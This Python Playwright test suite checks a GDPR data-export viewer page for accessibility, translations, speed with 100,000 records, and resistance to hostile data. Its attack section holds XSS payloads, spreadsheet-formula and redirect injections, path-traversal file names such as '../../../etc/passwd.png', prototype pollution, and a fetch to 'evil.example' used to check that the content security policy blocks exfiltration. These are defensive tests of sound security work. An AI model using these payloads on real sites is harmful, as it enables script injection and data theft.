"""The bundle's page in Chromium, opened from a folder: for everybody, at size, with all that is hostile."""

import json
import re
import time
from collections.abc import Callable, Iterator
from pathlib import Path
from typing import Any

import pytest
from playwright.sync_api import Browser, BrowserContext, Page, expect

from dsr.language import LANGUAGES, catalogue
from infra.craftzone.pictures import engraving_png
from tests.browser import axe
from tests.browser.bundles import MADE_AT, unzipped, with_file

pytestmark = pytest.mark.browser

Opened = Callable[..., Page]

CONNECTIONS = 100_000
CONNECTION = "lake.connections"


def connections(count: int) -> Iterator[dict[str, Any]]:
    """As many as a person comes to in years."""
    for n in range(count):
        yield {
            "connection_id": n, "member_id": "m-1",
            "at": f"{2020 + n % 6}-{1 + n % 12:02d}-{1 + n % 28:02d}T{n % 24:02d}:{n % 60:02d}:13+02:00",
            "ip": f"10.{n % 250}.{n // 250 % 250}.1",
            "mobile_network": None if n % 3 else f'Süd Mobil "{n % 7}"',
            "device": {"model": f"Graver {n % 90}", "os": "Android"},
        }  # fmt: skip


MEMBER = {
    "member_id": "m-1", "nickname": "Ada", "email": "ada@example.com", "country": "DE",
    "created_at": "2024-05-06T22:30:00Z", "updated_at": "2024-05-06 22:30:00", "exact": 9007199254740993,
    "sign_ins": [{"provider": "google", "subject_id": "123"}], "newsletter": False, "gone": None,
}  # fmt: skip
PICTURES = {f"files/pictures/{n} ü#%.png": engraving_png(f"{n}", 40) for n in range(3)}


def everything(count: int = 45) -> dict[str, Any]:
    """Some of each kind."""
    pictures = [
        {"object_key": f"pictures/m-1/{n}", "member_id": "m-1", "size": 9} for n in range(len(PICTURES))
    ]
    return {
        "members.members": [MEMBER],
        "pictures.pictures": [with_file(r, path) for r, path in zip(pictures, PICTURES, strict=True)],
        CONNECTION: connections(count),
    }


@pytest.fixture(scope="module")
def sample(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return unzipped(tmp_path_factory.mktemp("bundle"), everything(), PICTURES)


@pytest.fixture(scope="module")
def large(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return unzipped(tmp_path_factory.mktemp("large"), everything(CONNECTIONS), PICTURES)


@pytest.fixture
def opened(chromium: Browser) -> Iterator[Opened]:
    """Opens a page from its folder, watched: what it complains of, or asks from elsewhere, fails the test."""
    contexts: list[BrowserContext] = []
    complaints: list[str] = []

    def open_(path: Path, width: int = 1280, **settings: Any) -> Page:
        chosen: dict[str, Any] = {"locale": "en-GB", "timezone_id": "Europe/Berlin", **settings}
        context = chromium.new_context(viewport={"width": width, "height": 900}, **chosen)
        contexts.append(context)
        context.set_default_timeout(20_000)
        page = context.new_page()
        root = path.parent.as_uri()

        def asked(url: str) -> None:
            if not url.startswith(root):
                complaints.append(f"asked for {url}")

        page.on("request", lambda request: asked(request.url))
        page.on("requestfailed", lambda request: complaints.append(f"failed {request.url}"))
        page.on("console", lambda message: complaints.append(message.text))
        page.on("pageerror", lambda error: complaints.append(str(error)))
        page.on("dialog", lambda dialog: complaints.append(f"a dialog: {dialog.message}"))
        page.on("popup", lambda popup: complaints.append(f"a window: {popup.url}"))
        page.goto(path.as_uri())
        return page

    yield open_
    for context in contexts:
        context.close()
    assert complaints == []


def shelf(page: Page, anchor: str) -> Any:
    """The section of a collection, loaded."""
    section = page.locator(f"section:has(> h2#{anchor})")
    section.scroll_into_view_if_needed()
    section.locator("td.act button").first.wait_for()
    return section


# -- for everybody -----------------------------------------------------------------------------------


@pytest.mark.parametrize("width", [390, 1280])
@pytest.mark.parametrize("scheme", ["light", "dark"])
def test_axe_finds_nothing(opened: Opened, sample: Path, width: int, scheme: str) -> None:
    page = opened(sample, width, color_scheme=scheme, bypass_csp=True)
    for anchor in ("members-members", "pictures-pictures", "lake-connections"):
        section = shelf(page, anchor)
        section.locator("td.act button").first.click()
    page.locator("summary").click()
    section.get_by_role("searchbox").fill("graver 7")
    section.get_by_role("button", name="Search").click()
    expect(section.get_by_role("status")).to_contain_text("found")
    assert axe.faults(page) == []
    assert page.evaluate("document.documentElement.scrollWidth") <= width


@pytest.mark.parametrize("width", [390, 1280])
def test_without_script_it_can_be_read(opened: Opened, sample: Path, width: int) -> None:
    page = opened(sample, width, java_script_enabled=False)
    expect(page.get_by_role("heading", level=1)).to_have_text("Your data at CraftZone")
    expect(page.get_by_text("Without JavaScript this page shows the first records")).to_be_visible()
    expect(page.locator("section img")).to_have_count(len(PICTURES))
    for picture in page.locator("section img").all():
        picture.scroll_into_view_if_needed()
        assert picture.evaluate("async (e) => { await e.decode(); return e.naturalWidth }") == 40
    rows = page.locator("section:has(> h2#lake-connections) tbody tr")
    expect(rows).to_have_count(20)
    expect(page.get_by_text("The first 20 records are shown here; all are in the files.")).to_be_visible()
    expect(page.get_by_text("ada@example.com").first).to_be_visible()
    page.locator("summary").click()
    expect(page.locator("figure tbody tr").first).to_be_visible()


def test_it_tells_what_article_15_asks_for(opened: Opened, sample: Path) -> None:
    page = opened(sample)
    page.get_by_role("link", name="Your profile picture").click()
    facts = page.locator("section:has(> h2#pictures-pictures) .facts")
    said: dict[str, str] = {}
    for line in facts.locator("dt, dd").all():
        if line.evaluate("e => e.tagName") == "DT":
            term = line.inner_text()
        else:
            said[term] = "\n".join([*said.get(term, "").splitlines(), line.inner_text()])
    assert said["What for"] == "to show your profile and your work to other members"
    assert "Art. 6(1)(b)" in said["On what basis"]
    assert said["How long"] == "until your account is deleted"
    assert said["Categories"] == "content › private, unique id"
    assert said["Where it comes from"].splitlines() == [
        "From you: content", "Came about while you used what we offer: object key, member id",
    ]  # fmt: skip
    assert said["Who received it"] == "Amazon Web Services; other members, who see your profile"
    assert said["Copies"] == "CraftZone image CDN (gone within 24 hours)"
    assert said["As files"] == "data/pictures/pictures.jsonl, data/pictures/pictures.csv"
    overview = page.locator("main > .facts").first
    expect(overview).to_contain_text("privacy@craftzone.example, dpo@craftzone.example")
    expect(overview).to_contain_text("12 Engraver's Yard, Dublin 2, Ireland")
    expect(overview).to_contain_text("Amazon Web Services (works with it for us, Ireland)")
    expect(overview).to_contain_text("You may complain to the data protection authority")
    expect(page.locator("main > ul")).to_contain_text("Art. 17")
    expect(page.get_by_role("rowheader", name="Store: lake: 45 records")).to_be_visible()


@pytest.mark.parametrize(
    ("language", "locale", "title", "moment", "found"),
    [
        ("de", "de-DE", "Ihre Daten bei CraftZone", "07.05.2024, 00:30:00 MESZ", "15 Datensätze gefunden"),
        (
            "fr",
            "fr-FR",
            "Vos données chez CraftZone",
            "7 mai 2024, 00:30:00 UTC+2",
            "15 enregistrements trouvés",
        ),
        ("en", "en-GB", "Your data at CraftZone", "7 May 2024, 00:30:00 CEST", "15 records found"),
    ],
)
def test_in_their_language_with_their_times(
    opened: Opened, tmp_path: Path, language: str, locale: str, title: str, moment: str, found: str
) -> None:
    page = opened(unzipped(tmp_path, everything(), PICTURES, language), locale=locale)
    assert page.locator("html").get_attribute("lang") == language
    expect(page.get_by_role("heading", level=1)).to_have_text(title)
    expect(shelf(page, "members-members").locator("time").first).to_have_text(moment)
    section = shelf(page, "lake-connections")
    section.get_by_role("searchbox").fill("süd MOBIL")
    section.get_by_role("searchbox").press("Enter")
    expect(section.get_by_role("status")).to_contain_text(found)
    section.locator("td.act button").first.click()
    section = shelf(page, "members-members")
    section.locator("td.act button").first.click()
    page.locator("summary").click()
    assert leftovers(page, language) == set()
    others = [other for other in LANGUAGES if other != language]
    assert all(leftovers(page, other) for other in others), "this page's words would be found on theirs"


def leftovers(page: Page, language: str) -> set[str]:
    """The words of other languages' catalogues on the page, as far as the language does not have them too."""
    shown = page.evaluate(
        """() => { const named = [...document.querySelectorAll("[aria-label]")];
          return [document.title, document.body.innerText, ...named.map((e) => e.ariaLabel)].join("\\n"); }"""
    )
    own = "\n".join(pieces(language))
    foreign = {p for other in LANGUAGES if other != language for p in pieces(other) if p not in own}
    return {piece for piece in foreign if re.search(rf"(?<!\w){re.escape(piece)}(?!\w)", shown)}


def pieces(language: str) -> set[str]:
    """What stands in the texts for the page of a copy, between the blanks."""
    found = set()
    for key, text in catalogue(language).items():
        if key.partition(".")[0] in ("bundle", "viewer", "basis", "source", "recipient", "replaced"):
            forms = text.values() if isinstance(text, dict) else [text]
            found |= {piece.strip(" .,:;()“”") for form in forms for piece in re.split(r"\{\w+\}", form)}
    return {piece for piece in found if len(piece) > 4}


def test_a_record_is_shown_whole_and_exact(opened: Opened, sample: Path) -> None:
    page = opened(sample)
    section = shelf(page, "members-members")
    more = section.get_by_role("button", name="Details of record 1")
    more.focus()
    page.keyboard.press("Enter")
    assert more.get_attribute("aria-expanded") == "true"
    whole = section.locator(".record")
    said = whole.inner_text()
    assert "9007199254740993" in said, "more digits than JavaScript's numbers have"
    assert "as stored: 2024-05-06T22:30:00Z" in said
    assert "2024-05-06 22:30:00" in said, "a time without a zone is left as it is"
    for text in ("google", "123", "no", "empty", "sign ins"):
        assert text in said
    page.keyboard.press("Enter")
    expect(whole).to_have_count(0)


def test_pictures_are_a_gallery_and_lead_to_the_files(opened: Opened, sample: Path) -> None:
    section = shelf(opened(sample), "pictures-pictures")
    pictures = section.locator(".gallery img")
    expect(pictures).to_have_count(len(PICTURES))
    for picture, path in zip(pictures.all(), PICTURES, strict=True):
        assert picture.evaluate("async (e) => { await e.decode(); return e.naturalWidth }") == 40
        assert picture.get_attribute("alt") == path.rpartition("/")[2]


def test_the_chart_has_a_table_that_says_the_same(opened: Opened, sample: Path) -> None:
    page = opened(sample)
    chart = page.locator("figure.chart")
    bars = {t.split(": ")[0]: int(t.split(": ")[1]) for t in chart.locator("title").all_text_contents()}
    page.locator("summary").click()
    rows = [row.split("\t") for row in chart.locator("tbody tr").all_inner_texts()]
    assert {label: int(count) for label, count in rows} == {k: v for k, v in bars.items() if v}
    assert sum(bars.values()) == 46
    assert "Bars of records over time: the most in" in str(chart.locator("svg").get_attribute("aria-label"))


# -- at size -----------------------------------------------------------------------------------------


def test_a_hundred_thousand_rows_stay_quick(opened: Opened, large: Path) -> None:
    sizes = {p: p.stat().st_size for p in large.parent.rglob("*") if p.is_file() and "data/" not in str(p)}
    assert max(sizes.values()) < 600_000, "the page, and each of its parts"
    page = opened(large)
    loaded: list[str] = []
    page.on("request", lambda request: loaded.append(request.url))
    section = shelf(page, "lake-connections")
    status = section.get_by_role("status")
    expect(status).to_have_text("1–20 of 100,000")
    parts = [url for url in loaded if "/lake/" in url]
    assert len(parts) == 1, "only the part that is looked at"
    took = {}

    def timed(name: str, act: Callable[[], object], says: str) -> None:
        began = time.perf_counter()
        act()
        expect(status).to_contain_text(says)
        took[name] = time.perf_counter() - began

    timed("next", section.get_by_role("button", name="Next").click, "21–40 of 100,000")
    timed("last", section.get_by_role("button", name="Last").click, "99,981–100,000 of 100,000")
    expect(section.locator("tbody tr").last).to_contain_text("99999")
    parts = [url for url in loaded if "/lake/" in url]
    assert len(parts) == 2
    section.get_by_role("textbox", name="Go to record").fill("54 321")
    timed(
        "go to", lambda: section.get_by_role("textbox", name="Go to record").press("Enter"), "54,321–54,340"
    )
    expect(section.locator("tbody tr").first).to_contain_text("54320")
    section.get_by_role("searchbox").fill('süd mobil "3"')
    timed("search", section.get_by_role("button", name="Search").click, "records found")
    there = sum(1 for r in connections(CONNECTIONS) if r["mobile_network"] == 'Süd Mobil "3"')
    expect(status).to_contain_text(f"{there:,} records found")
    timed("last found", section.get_by_role("button", name="Last").click, f"of {there:,}")
    assert section.locator("tbody tr").count() <= 20
    timed("all", section.get_by_role("button", name="Show all").click, "1–20 of 100,000")
    assert max(took.values()) < 20, (
        took
    )  # alone on the machine: milliseconds to page, about a second to search


def test_a_missing_part_is_told(opened: Opened, chromium: Browser, tmp_path: Path) -> None:
    page_at = unzipped(tmp_path, everything(5000), PICTURES)
    (tmp_path / "viewer/lake/connections/3.js").unlink()
    page = chromium.new_page()  # unwatched: the browser complains, and so should our page
    page.goto(page_at.as_uri())
    section = shelf(page, "lake-connections")
    section.get_by_role("searchbox").fill("graver")
    section.get_by_role("button", name="Search").click()
    expect(section.get_by_role("status")).to_contain_text(
        "Was the whole folder unzipped? Missing: viewer/lake/connections/3.js"
    )
    page.close()


# -- what is hostile -----------------------------------------------------------------------------------

ATTACKS = [
    "<script>document.title='pwned'</script>",
    "</script><script>document.title='pwned'</script>",
    "<img src=x onerror=\"document.title='pwned'\">",
    "<svg onload=\"document.title='pwned'\">",
    "'\"><iframe srcdoc=\"<script>parent.document.title='pwned'</script>\">",
    "`);document.title='pwned';dsr(`",
    "${document.title='pwned'}",
    "\\`${document.title='pwned'}\\`",
    "\\",
    "\\\\`",
    "\u2028document.title='pwned'\u2029",
    "<!--<script>",
    "]]>",
    "javascript:document.title='pwned'",
    "{{7*7}}{% raw %}",
    "=HYPERLINK(\"https://evil.example\")",
    "&lt;b&gt;",
    "\u202egnp.exe",
    "../../x",
    "\ud83d\ude00\u0000\u001b[31m",
    "__proto__",
    "</title><base href='https://evil.example/'>",
    "<meta http-equiv=refresh content='0;url=https://evil.example/'>",
    "<style>*{display:none}</style>",
    "https://evil.example/",
    "9" * 400,
]  # fmt: skip


def hostile() -> dict[str, Any]:
    """Every attack as value, as name, nested, as a file's name, as an address."""
    forged = [
        "javascript:document.title='pwned'", "https://evil.example/x.png", "//evil.example/x.png",
        "files/../../../etc/passwd.png", "files/pictures/../../index.html", "data:text/html,x.png",
        "files/pictures/page.html", "files/pictures/x.svg", "files\\pictures\\x.png",
    ]  # fmt: skip
    return {
        "members.members": [
            *(
                {"member_id": str(n), "nickname": attack, attack: attack, "nested": {attack: [attack]}}
                for n, attack in enumerate(ATTACKS)
            ),
            json.loads('{"__proto__": {"polluted": "own"}, "constructor": 1, "hasOwnProperty": 2}'),
        ],
        "pictures.pictures": [
            with_file({"object_key": path, "member_id": "m-1", "size": 1}, path) for path in forged
        ],
        "events.entries": [
            {"entry_id": 1, "name": "x" * 3_000_000},
            {"entry_id": 2, **{f"c{n}": {f"d{n}": [n] * 3} for n in range(10_000)}},
            {"entry_id": 3, "name": nest(900)},
            {"entry_id": 4, "name": list(range(20_000))},
        ],
    }  # fmt: skip


def nest(depth: int) -> Any:
    value: Any = "deep"
    for _ in range(depth // 2):
        value = {"a": [value]}
    return value


@pytest.fixture(scope="module")
def attacked(tmp_path_factory: pytest.TempPathFactory) -> Path:
    files = {
        "files/pictures/page.html": b"<script>opener.document.title='pwned'</script>",
        "files/pictures/x.svg": b"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'/>",
    }
    return unzipped(tmp_path_factory.mktemp("attacked"), hostile(), files)


@pytest.mark.parametrize("scripted", [True, False])
def test_nothing_hostile_runs_or_becomes_markup(opened: Opened, attacked: Path, scripted: bool) -> None:
    page = opened(attacked, java_script_enabled=scripted)
    if scripted:
        for anchor in ("members-members", "pictures-pictures", "events-entries"):
            section = shelf(page, anchor)
            for more in section.locator("td.act button").all():
                more.click()
        section = shelf(page, "members-members")
        section.get_by_role("button", name="Next").click()
        expect(section.get_by_role("status")).to_contain_text("21–")
        for more in section.locator("td.act button").all():
            more.click()
        said = section.inner_text()
        assert "polluted" in said, "a field is a field whatever it is called"
        section.get_by_role("button", name="Previous").click()
        expect(section.get_by_role("status")).to_contain_text("1–20")
    expect(page).to_have_title("Your data at CraftZone")
    shown = page.locator("section").first.inner_text()
    for attack in ATTACKS[:5]:
        assert attack in shown
    assert page.locator("iframe, object, embed, base, link, meta[http-equiv=refresh]").count() == 0
    assert page.locator("script").count() == 2, "the index and the page's own"
    inside = page.locator("section").first
    assert inside.locator("img, svg, script, style").count() == 0
    for link in page.locator("section a[href]").all():
        assert str(link.get_attribute("href")).startswith(("data/", "files/", "#"))
    assert page.locator("a[href*='page.html'], a[href*='.svg'], a[href*='..']").count() == 0
    assert page.locator("section img").count() == 0


def test_what_is_huge_is_shown_in_parts(opened: Opened, attacked: Path) -> None:
    page = opened(attacked)
    section = shelf(page, "events-entries")
    for more in section.locator("td.act button").all():
        more.click()
    assert page.evaluate("document.getElementsByTagName('*').length") < 5000
    section.get_by_role("button", name="Show the whole text (3 MB)").click()
    expect(section.get_by_text("the whole is in data/events/entries.jsonl")).to_be_visible()
    section.get_by_role("button", name="Show 9,951 more fields").click()
    section.get_by_role("button", name="Show 9,451 more fields").wait_for()


@pytest.mark.parametrize("attack", [a for a in ATTACKS if a.strip() and "\x00" not in a])
def test_what_is_hostile_is_found_as_what_it_is(attacked_page: Page, attack: str) -> None:
    section = shelf(attacked_page, "members-members")
    box = section.get_by_role("searchbox")
    box.fill(attack.replace("\u2028", "").replace("\u2029", "") if "\u2028" in attack else attack)
    if "\u2028" in attack:
        box.fill("document.title='pwned'\u2029".strip("\u2029"))
    box.press("Enter")
    status = section.get_by_role("status")
    expect(status).to_contain_text("found")
    assert not status.inner_text().startswith("0 ")


@pytest.fixture(scope="module")
def attacked_page(chromium: Browser, attacked: Path) -> Iterator[Page]:
    context = chromium.new_context(viewport={"width": 1280, "height": 900})
    page = context.new_page()
    page.goto(attacked.as_uri())
    yield page
    context.close()


@pytest.mark.parametrize(
    "attempt",
    [
        "document.body.innerHTML = '<img src=x>'",
        "document.body.insertAdjacentHTML('beforeend', '<b>')",
        "document.write('<b>')",
        "Object.assign(document.createElement('script'), {src: 'files/pictures/x.js'})",
        "Object.assign(document.createElement('script'), {text: '1'})",
        "trustedTypes.createPolicy('another', {})",
        "setTimeout('1')",
    ],
)
def test_the_policy_forbids_what_the_script_does_not_do(attacked_page: Page, attempt: str) -> None:
    """Were there a mistake in the script, the browser would still stop it."""
    outcome = attacked_page.evaluate(
        f"(() => {{ try {{ {attempt}; return 'done' }} catch (e) {{ return e.name }} }})()"
    )
    assert outcome in ("TypeError", "EvalError")


def test_the_policy_lets_nothing_out(attacked_page: Page) -> None:
    tried = """async () => {
      const seen = [];
      document.addEventListener("securitypolicyviolation", (e) => seen.push(e.effectiveDirective));
      await fetch("https://evil.example/?data").catch(() => {});
      const picture = new Image();
      picture.src = "https://evil.example/x.png";
      await new Promise((done) => setTimeout(done, 50));
      return seen;
    }"""
    assert attacked_page.evaluate(tried) == ["connect-src", "img-src"]


def test_dates_are_of_the_bundle(opened: Opened, sample: Path) -> None:
    page = opened(sample, timezone_id="America/New_York", locale="en-US")
    expect(page.locator(".lead time")).to_have_text("Mar 2, 2026, 7:00:00 AM EST")
    assert page.locator(".lead time").get_attribute("datetime") == MADE_AT.isoformat()
